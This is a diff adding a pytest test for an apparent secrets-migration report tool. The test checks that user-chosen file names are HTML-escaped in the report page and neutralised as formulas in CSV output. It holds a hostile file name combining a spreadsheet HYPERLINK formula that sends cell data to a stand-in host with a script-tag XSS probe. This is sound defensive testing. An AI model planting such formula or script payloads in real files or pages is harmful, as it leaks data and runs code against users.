@@ -93,3 +93,23 @@ def test_a_link_in_place_of_the_csv_folder_is_refused(
     result = report_site.report(out, "--format", "csv")
     assert result.code == 2 and "is a symlink" in result.stderr
     assert list(elsewhere.iterdir()) == []
+
+
+def test_names_users_choose_are_escaped_in_the_page_and_never_formulas_in_csv(
+    report_site: ReportSite, tmp_path: Path
+) -> None:
+    hostile = '/home/mallory/=HYPERLINK("http://x.example/?"&A1)<script>alert(1)</script>.env'
+    payload = {"to": "vault:secret/data/users/mallory/x", "owner": "mallory",
+               "keys": ["TOKEN"], "lines": [1], "vault_version": 1}  # fmt: skip
+    report_site.append("secrets.migrate", hostile, payload, f"{DAY}T01:00:00.000000Z")
+    report_site.append("secrets.migrate", "=1+1", payload, f"{DAY}T02:00:00.000000Z")
+    report_site.checkpoint()
+    out = tmp_path / "out"
+    assert report_site.report(out, "--format", "html,csv").code == 0
+    page = (out / "report.html").read_text()
+    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    import csv
+
+    with (out / "csv" / "secrets.csv").open() as handle:
+        files = [row["file"] for row in csv.DictReader(handle)]
+    assert files == [hostile, "'=1+1"]
